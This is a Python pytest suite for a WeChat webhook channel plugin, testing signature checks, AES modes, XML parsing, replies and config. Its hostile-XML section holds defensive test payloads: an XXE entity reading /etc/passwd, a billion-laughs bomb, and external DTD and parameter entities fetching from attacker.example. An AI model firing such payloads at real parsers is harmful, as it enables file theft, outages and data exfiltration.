"""The ``wechat`` channel: conformance in every mode, parsing, hostile XML, answers."""

from __future__ import annotations

import contextlib
import re
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, ClassVar

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pydantic import BaseModel, ValidationError
from switchboard_plugins.wechat import plugin
from switchboard_plugins.wechat.config import WeChatConfig
from switchboard_plugins.wechat.crypto import WeChatCrypto, sign
from switchboard_plugins.wechat.xmltools import cdata
from switchboard_sdk.errors import BadPayload, PluginConfigError, SwitchboardError, VerificationFailed
from switchboard_sdk.models import InboundMessage
from switchboard_sdk.registry import build_plugin_manager
from switchboard_sdk.testing import ChannelConformance
from switchboard_sdk.webhooks import IngestReport, WebhookRequest, WebhookResponse

MESSAGES = Path(__file__).parent / "vectors/wechat/messages"
NOW = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
TS = str(int(NOW.timestamp()))
NONCE = "1320562132"
TOKEN = "sbToken2026"  # noqa: S105 - a test fixture
APP_ID = "wx2c2769f8efd9abc2"
AES_KEY = "abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG"
RANDOM16 = b"0123456789abcdef"
ACCOUNT = "gh_10f6c3c3ac5a"
OPENID = "oyORnuP8q7ou2gfYjqLzSIWZf0rs"
STORED = IngestReport(stored=1, message_ids=("m1",))
DUPLICATE = IngestReport(duplicates=1, message_ids=("m1",))
QUARANTINED = IngestReport(quarantine_id="q1", quarantine_reason="bad_payload")


def config(mode: str = "safe", **extra: Any) -> WeChatConfig:
    return WeChatConfig.model_validate(
        {"token": TOKEN, "app_id": APP_ID, "encoding_aes_key": AES_KEY, "mode": mode, **extra}
    )


def xml(msg_type: str, *, sender: str = OPENID, create_time: str = TS, **children: str) -> str:
    inner = "".join(f"<{name}>{cdata(value)}</{name}>" for name, value in children.items())
    return (
        f"<xml><ToUserName>{cdata(ACCOUNT)}</ToUserName><FromUserName>{cdata(sender)}</FromUserName>"
        f"<CreateTime>{create_time}</CreateTime><MsgType>{cdata(msg_type)}</MsgType>{inner}</xml>"
    )


TEXT = xml("text", Content="Where is my order #1042?", MsgId="6054768590064713728")
IMAGE = xml("image", PicUrl="https://mmbiz.qpic.cn/abc/0", MediaId="m-1", MsgId="6054768590064713729")
SUBSCRIBE = xml("event", Event="subscribe", EventKey="qrscene_42", Ticket="gQH47joAAAAA")


def push(
    body_xml: str,
    cfg: WeChatConfig,
    *,
    timestamp: str = TS,
    nonce: str = NONCE,
    received_at: datetime = NOW,
) -> WebhookRequest:
    """A push as WeChat sends it in ``cfg.mode``: signed, and encrypted unless plaintext."""
    query = {"signature": sign(TOKEN, timestamp, nonce), "timestamp": timestamp, "nonce": nonce, "openid": OPENID}
    body = body_xml.encode()
    if cfg.mode != "plaintext":
        box = WeChatCrypto(TOKEN, AES_KEY, APP_ID)
        safe_body, msg_signature = box.encrypted_request(
            body_xml, timestamp=timestamp, nonce=nonce, random16=RANDOM16, to_user=ACCOUNT
        )
        query |= {"encrypt_type": "aes", "msg_signature": msg_signature}
        if cfg.mode == "safe":
            body = safe_body
        else:  # compatible: the clear fields and the Encrypt element side by side
            encrypt = safe_body.decode().split("<Encrypt>")[1].split("</Encrypt>")[0]
            body = body_xml.replace("</xml>", f"<Encrypt>{encrypt}</Encrypt></xml>").encode()
    return WebhookRequest(
        tenant_id="t-acme", channel="wechat", method="POST", public_url="https://hub.example.com/hooks/t-acme/wechat",
        headers={"content-type": "text/xml"}, query=query, body=body, received_at=received_at,
    )


def verify(request: WebhookRequest, cfg: WeChatConfig) -> bool:
    return bool(plugin.switchboard_channel_verify(request=request, config=cfg))


def parse(request: WebhookRequest, cfg: WeChatConfig) -> InboundMessage:
    (message,) = plugin.switchboard_channel_parse(request=request, config=cfg)
    return message


def respond(request: WebhookRequest, cfg: WeChatConfig, report: IngestReport = STORED) -> WebhookResponse:
    answer = plugin.switchboard_channel_respond(request=request, config=cfg, report=report)
    assert isinstance(answer, WebhookResponse)
    return answer


# -- conformance, once per mode ------------------------------------------------------


class _Conformance(ChannelConformance):
    plugin = plugin
    mode: ClassVar[str]

    def make_config(self) -> BaseModel:
        return config(self.mode, auto_ack_text="Thanks, we will answer shortly.")

    def signed_requests(self, config: BaseModel) -> list[WebhookRequest]:
        assert isinstance(config, WeChatConfig)
        return [push(TEXT, config), push(IMAGE, config, nonce="77"), push(SUBSCRIBE, config, nonce="78")]

    def unsigned(self, request: WebhookRequest) -> WebhookRequest:
        query = {k: v for k, v in request.query.items() if k not in ("signature", "msg_signature")}
        return replace(request, query=query)


class TestPlaintextConformance(_Conformance):
    mode = "plaintext"


class TestCompatibleConformance(_Conformance):
    mode = "compatible"


class TestSafeConformance(_Conformance):
    mode = "safe"


def test_the_hub_wrappers_handshake_verify_parse_and_answer() -> None:
    registry = build_plugin_manager(extra_plugins=[plugin], load_entry_points=False)
    cfg = registry.validate_config("wechat", {"token": TOKEN, "app_id": APP_ID, "mode": "plaintext"})
    assert isinstance(cfg, WeChatConfig)
    request = push(TEXT, cfg)
    registry.verify("wechat", request, cfg)
    (message,) = registry.parse("wechat", request, cfg)
    assert message.provider_message_id == "6054768590064713728"
    answer = registry.respond("wechat", request, cfg, STORED)
    assert answer is not None
    assert (answer.status_code, answer.body) == (200, "success")
    get = replace(request, method="GET", body=b"", query={**request.query, "echostr": "5927782489442352469"})
    echoed = registry.handshake("wechat", get, cfg)
    assert echoed is not None
    assert echoed.body == "5927782489442352469"


# -- every sample message ---------------------------------------------------------------

SAMPLES: list[tuple[str, str, str, str, dict[str, str]]] = [
    # file, kind, text, provider_message_id, metadata subset
    ("parser__parse_text_message", "message", "this is a test", "1234567890123456", {"msg_type": "text"}),
    ("parser__parse_image_message", "message", "[image]", "1234567890123456",
     {"msg_type": "image", "media_id": "media_id", "pic_url": "this is a url"}),
    ("parser__parse_voice_message", "message", "[voice]", "1234567890123456",
     {"media_id": "media_id", "format": "Format"}),
    ("docs__voice_with_recognition", "message", "腾讯微信团队", "1234567890123456",
     {"recognition": "腾讯微信团队", "format": "Format"}),
    ("parser__parse_video_message", "message", "[video]", "1234567890123456",
     {"media_id": "media_id", "thumb_media_id": "thumb_media_id"}),
    ("docs__shortvideo", "message", "[short video]", "1234567890123456",
     {"msg_type": "shortvideo", "thumb_media_id": "thumb_media_id"}),
    ("parser__parse_location_message", "message", "Location: 23.134521,113.358803 (位置信息)", "1234567890123456",
     {"latitude": "23.134521", "longitude": "113.358803", "scale": "20", "label": "位置信息"}),
    ("parser__parse_link_message", "message", "公众平台官网链接\n公众平台官网链接\nurl", "1234567890123456",
     {"title": "公众平台官网链接", "url": "url"}),
    ("events__subscribe_event", "event", "Followed the account", "FromUser:123456789:subscribe",
     {"event": "subscribe", "msg_type": "event"}),
    ("events__unsubscribe_event", "event", "Unfollowed the account", "FromUser:123456789:unsubscribe",
     {"event": "unsubscribe"}),
    ("events__scan_event", "event", "Scanned QR code scene SCENE_VALUE", "FromUser:123456789:SCAN:SCENE_VALUE",
     {"scene": "SCENE_VALUE", "ticket": "TICKET"}),
    ("events__click_event", "event", "Clicked menu item EVENTKEY", "FromUser:123456789:CLICK:EVENTKEY",
     {"event_key": "EVENTKEY"}),
    ("events__view_event", "event", "Opened menu link www.qq.com", "FromUser:123456789:VIEW:www.qq.com",
     {"event_key": "www.qq.com"}),
    # the documented passive-reply shape has no MsgId: kept as a generic event, not dropped
    ("docs__reply_text", "event", "WeChat event text", "fromUser:12345678:text", {"Content": "你好"}),
]


def sample(name: str) -> str:
    return (MESSAGES / f"{name}.xml").read_text("utf-8")


def test_every_sample_file_is_in_the_table() -> None:
    assert {p.stem for p in MESSAGES.glob("*.xml")} == {row[0] for row in SAMPLES}


@pytest.mark.parametrize("mode", ["plaintext", "safe"])
@pytest.mark.parametrize(("name", "kind", "text", "message_id", "metadata"), SAMPLES, ids=[s[0] for s in SAMPLES])
def test_samples_parse(mode: str, name: str, kind: str, text: str, message_id: str, metadata: dict[str, str]) -> None:
    cfg = config(mode)
    request = push(sample(name), cfg)
    assert verify(request, cfg)
    message = parse(request, cfg)
    assert (message.kind, message.text, message.provider_message_id) == (kind, text, message_id)
    assert metadata.items() <= message.metadata.items()
    assert message.metadata["to_user"] == "toUser"
    assert message.opens_ticket is (kind == "message")
    assert message.received_at == NOW
    assert message.sent_at is not None
    assert message.customer is not None
    (identity,) = message.customer.identities
    assert identity.kind == "wechat_openid"


def test_a_text_message_in_full() -> None:
    message = parse(push(TEXT, config("plaintext")), config("plaintext"))
    assert message.model_dump(exclude={"customer", "received_at"}) == {
        "tenant_id": "t-acme", "channel": "wechat", "provider_message_id": "6054768590064713728",
        "kind": "message", "subject": None, "text": "Where is my order #1042?", "attachments": [],
        "sent_at": NOW, "thread": {"ticket_refs": [], "provider_ids": []}, "opens_ticket": True,
        "metadata": {"to_user": ACCOUNT, "msg_type": "text"}, "raw_payload_ref": None, "sender_authenticated": None,
    }


def test_a_web_picture_becomes_an_attachment() -> None:
    message = parse(push(IMAGE, config()), config())
    assert [a.url for a in message.attachments] == ["https://mmbiz.qpic.cn/abc/0"]


def test_a_non_web_picture_url_is_metadata_only() -> None:
    message = parse(push(xml("image", PicUrl="javascript:alert(1)", MsgId="1"), config()), config())
    assert message.attachments == []
    assert message.metadata["pic_url"] == "javascript:alert(1)"


EVENTS: list[tuple[str, str, str, dict[str, str]]] = [
    (SUBSCRIBE, f"{OPENID}:{TS}:subscribe:qrscene_42", "Followed the account via QR code scene 42",
     {"scene": "42", "ticket": "gQH47joAAAAA", "event_key": "qrscene_42"}),
    (xml("event", Event="LOCATION", Latitude="23.137466", Longitude="113.352425", Precision="119.385040"),
     f"{OPENID}:{TS}:LOCATION", "Location: 23.137466,113.352425",
     {"latitude": "23.137466", "longitude": "113.352425", "precision": "119.385040"}),
    (xml("event", Event="kf_create_session", KfAccount="test1@test"), f"{OPENID}:{TS}:kf_create_session",
     "Customer-service session opened by test1@test", {"kf_account": "test1@test"}),
    (xml("event", Event="kf_close_session", KfAccount="test1@test"), f"{OPENID}:{TS}:kf_close_session",
     "Customer-service session closed by test1@test", {"kf_account": "test1@test"}),
    (xml("event", Event="kf_switch_session", FromKfAccount="a@test", ToKfAccount="b@test"),
     f"{OPENID}:{TS}:kf_switch_session", "Customer-service session moved from a@test to b@test",
     {"from_kf_account": "a@test", "to_kf_account": "b@test"}),
    (xml("event", Event="TEMPLATESENDJOBFINISH", MsgID="200163836", Status="success"),
     f"{OPENID}:{TS}:TEMPLATESENDJOBFINISH", "WeChat event TEMPLATESENDJOBFINISH",
     {"MsgID": "200163836", "Status": "success", "Event": "TEMPLATESENDJOBFINISH"}),
    (xml("event", Event="brand_new_event", Detail="x"), f"{OPENID}:{TS}:brand_new_event",
     "WeChat event brand_new_event", {"Detail": "x", "MsgType": "event", "event": "brand_new_event"}),
    (xml("miniprogrampage", Title="t", MsgId="99"), "99", "WeChat event miniprogrampage",
     {"Title": "t", "MsgType": "miniprogrampage", "msg_type": "miniprogrampage"}),
    (xml("holo", Hologram="h"), f"{OPENID}:{TS}:holo", "WeChat event holo", {"Hologram": "h"}),
    (xml("text", Content="no id"), f"{OPENID}:{TS}:text", "WeChat event text", {"Content": "no id"}),
]


@pytest.mark.parametrize(("body", "message_id", "text", "metadata"), EVENTS, ids=lambda v: str(v)[:40])
def test_events_and_unknown_types(body: str, message_id: str, text: str, metadata: dict[str, str]) -> None:
    message = parse(push(body, config()), config())
    assert (message.kind, message.opens_ticket) == ("event", False)
    assert (message.provider_message_id, message.text) == (message_id, text)
    assert metadata.items() <= message.metadata.items()


def test_nested_elements_of_unknown_events_are_kept_flat() -> None:
    body = xml("event", Event="scancode_push").replace(
        "</xml>", "<ScanCodeInfo><ScanType>qrcode</ScanType><ScanResult>1</ScanResult></ScanCodeInfo></xml>")
    message = parse(push(body, config()), config())
    assert message.metadata["ScanCodeInfo.ScanResult"] == "1"


def test_a_long_event_key_enters_the_id_as_a_hash() -> None:
    url = "https://shop.example.com/" + "a" * 600
    message = parse(push(xml("event", Event="VIEW", EventKey=url), config()), config())
    assert re.fullmatch(rf"{OPENID}:{TS}:VIEW:sha256-[0-9a-f]{{64}}", message.provider_message_id)
    assert message.metadata["event_key"] == url


@pytest.mark.parametrize("msg_id", ["9223372036854775807", "18446744073709551615", "0000123"])
@pytest.mark.parametrize("mode", ["plaintext", "safe"])
def test_64_bit_msg_ids_are_kept_exactly(msg_id: str, mode: str) -> None:
    message = parse(push(xml("text", Content="hi", MsgId=msg_id), config(mode)), config(mode))
    assert message.provider_message_id == msg_id


def test_a_union_id_is_a_second_identity() -> None:
    message = parse(push(xml("text", Content="hi", MsgId="1", UnionId="o6_bmasdasdsad6_2sgVt7hMZOPfL"), config()),
                    config())
    assert message.customer is not None
    assert [i.key for i in message.customer.identities] == [
        f"wechat_openid:{OPENID}", "wechat_unionid:o6_bmasdasdsad6_2sgVt7hMZOPfL"]


def test_a_retry_parses_to_the_same_message() -> None:
    cfg = config()
    later = push(TEXT, cfg, received_at=NOW + timedelta(seconds=10))
    first, retry = parse(push(TEXT, cfg), cfg), parse(later, cfg)
    assert first.model_dump(exclude={"received_at"}) == retry.model_dump(exclude={"received_at"})


def test_compatible_mode_trusts_only_the_encrypted_copy() -> None:
    cfg = config("compatible")
    request = push(TEXT, cfg)
    forged = request.body.replace(b"Where is my order #1042?", b"Send the refund to IBAN X")
    message = parse(replace(request, body=forged), cfg)
    assert message.text == "Where is my order #1042?"


@pytest.mark.parametrize(
    ("body", "problem"),
    [
        ("<xml><ToUserName>a</ToUserName></xml>", "lacks FromUserName, CreateTime, MsgType"),
        (xml("text", create_time="soon", Content="x", MsgId="1"), "CreateTime"),
        (xml("text", sender="o" * 400, Content="x", MsgId="1"), "customer id"),
        (xml("text", Content="x" * 100_001, MsgId="1"), "text"),
        ("<notxml/>", "<xml>"),
    ],
)
def test_verified_but_malformed_messages_are_bad_payloads(body: str, problem: str) -> None:
    cfg = config()
    request = push(body, cfg)
    assert verify(request, cfg)  # the hub quarantines what verified but does not parse
    with pytest.raises(BadPayload, match=re.escape(problem)):
        parse(request, cfg)


# -- hostile XML --------------------------------------------------------------------------

XXE = ('<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
       "<xml><ToUserName>a</ToUserName><FromUserName>&xxe;</FromUserName><Encrypt>x</Encrypt></xml>")
LAUGHS = ('<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
          '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
          "<xml><Content>&d;</Content><Encrypt>x</Encrypt></xml>")
DTD = '<!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd"><xml><Encrypt>x</Encrypt></xml>'
PARAMETER = '<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><xml/>'
HOSTILE = {"xxe": XXE, "billion-laughs": LAUGHS, "external-dtd": DTD, "parameter-entity": PARAMETER,
           "malformed": "<xml><Content>unclosed", "empty": "", "not-xml": "success"}


@pytest.mark.parametrize("mode", ["plaintext", "compatible", "safe"])
@pytest.mark.parametrize("body", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_bodies_are_bad_payloads_before_anything_else(mode: str, body: str) -> None:
    cfg = config(mode)
    request = replace(push(TEXT, cfg), body=body.encode())
    with pytest.raises(BadPayload):
        verify(request, cfg)
    with pytest.raises(BadPayload):
        verify(replace(request, query={}), cfg)  # even unsigned: the body is looked at first


def test_hostile_xml_inside_a_genuine_encrypted_push_is_a_bad_payload() -> None:
    cfg = config()
    request = push(XXE, cfg)
    assert verify(request, cfg)
    with pytest.raises(BadPayload, match="DTD"):
        parse(request, cfg)
    assert respond(request, cfg, QUARANTINED).body == "success"


# -- verification --------------------------------------------------------------------------


@pytest.mark.parametrize("mode", ["plaintext", "compatible", "safe"])
@pytest.mark.parametrize("skew", [301, -301])
def test_stale_timestamps_fail(mode: str, skew: int) -> None:
    cfg = config(mode)
    with pytest.raises(VerificationFailed, match="replay window"):
        verify(push(TEXT, cfg, received_at=NOW + timedelta(seconds=skew)), cfg)


def test_a_retry_15_seconds_later_still_verifies_and_tolerance_is_configurable() -> None:
    late = push(TEXT, config(), received_at=NOW + timedelta(seconds=15))
    assert verify(late, config())
    with pytest.raises(VerificationFailed):
        verify(late, config(tolerance_seconds=10))


@pytest.mark.parametrize("stamp", ["", "9" * 40, "-5", "1e9", " 1767323045", "١٢٣"])
def test_odd_timestamps_fail_cleanly(stamp: str) -> None:
    cfg = config("plaintext")
    request = push(TEXT, cfg)
    with pytest.raises(VerificationFailed):
        verify(replace(request, query={**request.query, "timestamp": stamp}), cfg)


@pytest.mark.parametrize(
    ("mode", "param"),
    [("plaintext", "signature"), ("plaintext", "nonce"), ("compatible", "msg_signature"), ("compatible", "nonce"),
     ("safe", "msg_signature"), ("safe", "nonce")],
)
def test_a_wrong_signature_fails(mode: str, param: str) -> None:
    cfg = config(mode)
    request = push(TEXT, cfg)
    tampered = replace(request, query={**request.query, param: request.query[param] + "0"})
    with pytest.raises(VerificationFailed):
        verify(tampered, cfg)


@pytest.mark.parametrize("mode", ["compatible", "safe"])
def test_encrypted_modes_rely_on_msg_signature_not_signature(mode: str) -> None:
    cfg = config(mode)
    request = push(TEXT, cfg)
    assert verify(replace(request, query={**request.query, "signature": "0" * 40}), cfg)
    only_plain = {k: v for k, v in request.query.items() if k != "msg_signature"}
    with pytest.raises(VerificationFailed, match="msg_signature"):
        verify(replace(request, query=only_plain), cfg)


def test_another_tokens_signature_fails() -> None:
    cfg = config("plaintext")
    request = push(TEXT, cfg)
    with pytest.raises(VerificationFailed):
        verify(request, WeChatConfig.model_validate({**cfg.model_dump(), "token": "otherToken"}))


def test_a_changed_encrypt_fails_the_msg_signature() -> None:
    cfg = config()
    request = push(TEXT, cfg)
    other = push(xml("text", Content="other", MsgId="2"), cfg)
    with pytest.raises(VerificationFailed, match="msg_signature"):
        verify(replace(request, body=other.body), cfg)


def test_a_push_for_another_app_id_fails() -> None:
    cfg = config()
    box = WeChatCrypto(TOKEN, AES_KEY, "wxsomeoneelse0000")
    body, msg_signature = box.encrypted_request(TEXT, timestamp=TS, nonce=NONCE, random16=RANDOM16, to_user=ACCOUNT)
    request = push(TEXT, cfg)
    forged = replace(request, body=body, query={**request.query, "msg_signature": msg_signature})
    with pytest.raises(VerificationFailed, match="AppID"):
        verify(forged, cfg)


def test_encrypted_modes_refuse_a_plaintext_push_and_vice_versa() -> None:
    plain = push(TEXT, config("plaintext"))
    for mode in ("compatible", "safe"):
        with pytest.raises(VerificationFailed, match="encrypt_type=aes"):
            verify(plain, config(mode))
    with pytest.raises(VerificationFailed, match="plaintext mode"):
        verify(push(TEXT, config()), config("plaintext"))


def test_an_encrypted_push_without_encrypt_is_a_bad_payload() -> None:
    cfg = config()
    request = push(TEXT, cfg)
    with pytest.raises(BadPayload, match="Encrypt"):
        verify(replace(request, body=TEXT.encode()), cfg)


class OtherConfig(BaseModel):
    token: str = TOKEN


def test_a_foreign_config_is_a_plugin_error() -> None:
    for hook in (plugin.switchboard_channel_verify, plugin.switchboard_channel_parse,
                 plugin.switchboard_channel_handshake):
        with pytest.raises(PluginConfigError):
            hook(request=push(TEXT, config()), config=OtherConfig())


# -- GET handshake --------------------------------------------------------------------------


def get(*, echostr: str = "5927782489442352469", received_at: datetime = NOW, **query: str) -> WebhookRequest:
    params = {"signature": sign(TOKEN, TS, NONCE), "timestamp": TS, "nonce": NONCE, "echostr": echostr, **query}
    return WebhookRequest(
        tenant_id="t-acme", channel="wechat", method="GET", public_url="https://hub.example.com/hooks/t-acme/wechat",
        headers={}, query=params, body=b"", received_at=received_at,
    )


@pytest.mark.parametrize("mode", ["plaintext", "compatible", "safe"])
def test_handshake_echoes_echostr(mode: str) -> None:
    answer = plugin.switchboard_channel_handshake(request=get(), config=config(mode))
    assert answer == WebhookResponse(200, "5927782489442352469", {"Content-Type": "text/plain"})


@pytest.mark.parametrize(
    "request_",
    [get(signature="f21891de399b4e33a1a93c9a7b8a8fffb5a443ff"), get(signature=""), get(nonce="1"),
     get(received_at=NOW + timedelta(hours=1)), get(timestamp="")],
    ids=["wrong", "empty", "other-nonce", "stale", "no-timestamp"],
)
def test_handshake_refuses_bad_signatures(request_: WebhookRequest) -> None:
    with pytest.raises(VerificationFailed):
        plugin.switchboard_channel_handshake(request=request_, config=config())


@pytest.mark.parametrize("echostr", ["", "x" * 257])
def test_handshake_needs_a_sane_echostr(echostr: str) -> None:
    with pytest.raises(BadPayload):
        plugin.switchboard_channel_handshake(request=get(echostr=echostr), config=config())


# -- answers -------------------------------------------------------------------------------


@pytest.mark.parametrize("mode", ["plaintext", "compatible", "safe"])
@pytest.mark.parametrize("report", [STORED, DUPLICATE, QUARANTINED, IngestReport()], ids=["s", "d", "q", "none"])
def test_without_auto_ack_everything_is_answered_success(mode: str, report: IngestReport) -> None:
    answer = respond(push(TEXT, config(mode)), config(mode), report)
    assert answer == WebhookResponse(200, "success", {"Content-Type": "text/plain"})


ACK = "Thanks! An agent will answer within 24 h. ]]> <b>"


def test_auto_ack_in_plaintext_mode_is_a_passive_text_reply() -> None:
    cfg = config("plaintext", auto_ack_text=ACK)
    answer = respond(push(TEXT, cfg), cfg)
    assert answer.status_code == 200
    assert answer.headers == {"Content-Type": "application/xml; charset=utf-8"}
    reply = parse(push(answer.body, config("plaintext")), config("plaintext"))  # no MsgId: a generic record
    assert reply.metadata["Content"] == ACK
    assert reply.metadata["to_user"] == OPENID
    assert reply.customer is not None
    assert reply.customer.identities[0].value == ACCOUNT
    assert f"<CreateTime>{TS}</CreateTime>" in answer.body


@pytest.mark.parametrize("mode", ["compatible", "safe"])
def test_auto_ack_is_encrypted_and_identical_for_duplicates(mode: str) -> None:
    cfg = config(mode, auto_ack_text=ACK)
    request = push(TEXT, cfg)
    first, again = respond(request, cfg, STORED), respond(request, cfg, DUPLICATE)
    assert first == again
    encrypt = first.body.split("<Encrypt><![CDATA[")[1].split("]]>")[0]
    assert f"<MsgSignature>{cdata(sign(TOKEN, TS, NONCE, encrypt))}</MsgSignature>" in first.body
    assert f"<TimeStamp>{TS}</TimeStamp><Nonce>{cdata(NONCE)}</Nonce>" in first.body
    decrypted = WeChatCrypto(TOKEN, AES_KEY, APP_ID).decrypt(encrypt)
    assert decrypted == (
        f"<xml><ToUserName>{cdata(OPENID)}</ToUserName><FromUserName>{cdata(ACCOUNT)}</FromUserName>"
        f"<CreateTime>{TS}</CreateTime><MsgType>{cdata('text')}</MsgType><Content>{cdata(ACK)}</Content></xml>"
    )
    other = respond(push(xml("text", Content="again", MsgId="6054768590064713730"), cfg), cfg)
    assert other.body.split("<Encrypt>")[1] != first.body.split("<Encrypt>")[1]


@pytest.mark.parametrize("report", [QUARANTINED, IngestReport()], ids=["quarantined", "nothing-held"])
def test_auto_ack_only_for_held_messages(report: IngestReport) -> None:
    cfg = config(auto_ack_text=ACK)
    assert respond(push(TEXT, cfg), cfg, report).body == "success"


@pytest.mark.parametrize("body", [SUBSCRIBE, xml("event", Event="CLICK", EventKey="K"), xml("holo", MsgId="5")])
def test_events_get_no_auto_ack(body: str) -> None:
    cfg = config(auto_ack_text=ACK)
    assert respond(push(body, cfg), cfg).body == "success"


def test_auto_ack_never_fails_the_answer() -> None:
    cfg = config(auto_ack_text=ACK)
    assert respond(replace(push(TEXT, cfg), body=b"<xml>"), cfg).body == "success"


# -- config ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "changes",
    [
        {"encoding_aes_key": "A" * 42},
        {"encoding_aes_key": "A" * 44},
        {"encoding_aes_key": "A" * 42 + "!"},
        {"encoding_aes_key": None},
        {"mode": "compatible", "encoding_aes_key": None},
        {"mode": "aes"},
        {"token": "ab"},
        {"token": "has space"},
        {"token": "x" * 33},
        {"app_id": ""},
        {"tolerance_seconds": 0},
        {"auto_ack_text": " "},
        {"auto_ack_text": "bell\x07"},
        {"auto_ack_text": "字" * 683},  # 2049 bytes
        {"aes_key": AES_KEY},
    ],
)
def test_config_validation_rejects(changes: dict[str, Any]) -> None:
    raw = {"token": TOKEN, "app_id": APP_ID, "encoding_aes_key": AES_KEY, "mode": "safe", **changes}
    with pytest.raises(ValidationError):
        WeChatConfig.model_validate(raw)


def test_config_defaults_and_plaintext_needs_no_key() -> None:
    cfg = WeChatConfig.model_validate({"token": TOKEN, "app_id": APP_ID, "mode": "plaintext"})
    assert (cfg.encoding_aes_key, cfg.auto_ack_text, cfg.tolerance_seconds) == (None, None, 300)
    with pytest.raises(ValidationError):
        WeChatConfig.model_validate({"token": TOKEN, "app_id": APP_ID})  # the mode is a deliberate choice


def test_config_hides_secrets() -> None:
    cfg = config()
    assert TOKEN not in repr(cfg) + cfg.model_dump_json()
    assert AES_KEY not in repr(cfg) + cfg.model_dump_json()
    with pytest.raises(ValidationError) as caught:
        WeChatConfig.model_validate({"token": "TOPSECRET!", "app_id": APP_ID, "mode": "safe",
                                     "encoding_aes_key": "SECRETKEY"})
    assert "TOPSECRET" not in str(caught.value)
    assert "SECRETKEY" not in str(caught.value)


def test_config_is_frozen() -> None:
    with pytest.raises(ValidationError):
        config().tolerance_seconds = 5  # type: ignore[misc]


# -- random XML --------------------------------------------------------------------------------

_NAMES = st.sampled_from(["MsgType", "Event", "EventKey", "MsgId", "Content", "PicUrl", "CreateTime",
                          "FromUserName", "ToUserName", "UnionId", "Location_X", "Label", "Url", "Encrypt"])
_VALUES = st.one_of(
    st.sampled_from(["text", "image", "event", "subscribe", "SCAN", "VIEW", "location", "link", "kf_switch_session",
                     "qrscene_", "18446744073709551615", "", " ", "http://x", "]]>", "1" * 40]),
    st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=40),
)


@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
@given(children=st.lists(st.tuples(_NAMES, _VALUES), max_size=12), mode=st.sampled_from(["plaintext", "safe"]))
def test_random_pushes_raise_only_sdk_errors(children: list[tuple[str, str]], mode: str) -> None:
    body = "<xml>" + "".join(f"<{n}>{cdata(v)}</{n}>" for n, v in children) + "</xml>"
    cfg = config(mode, auto_ack_text="ok")
    request = push(body, cfg)
    assert verify(request, cfg)
    report = STORED
    try:
        messages = plugin.switchboard_channel_parse(request=request, config=cfg)
    except BadPayload:
        report = QUARANTINED
    else:
        assert len(messages) == 1
        assert plugin.switchboard_channel_parse(request=request, config=cfg) == messages
    answer = respond(request, cfg, report)
    assert answer.status_code == 200


@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
@given(cut=st.integers(min_value=0, max_value=400), junk=st.binary(max_size=64),
       mode=st.sampled_from(["plaintext", "compatible", "safe"]))
def test_mutated_bodies_raise_only_sdk_errors(cut: int, junk: bytes, mode: str) -> None:
    cfg = config(mode)
    request = push(TEXT, cfg)
    mutated = replace(request, body=request.body[:cut] + junk + request.body[cut + len(junk):])
    for hook in (plugin.switchboard_channel_verify, plugin.switchboard_channel_parse):
        with contextlib.suppress(SwitchboardError):
            hook(request=mutated, config=cfg)
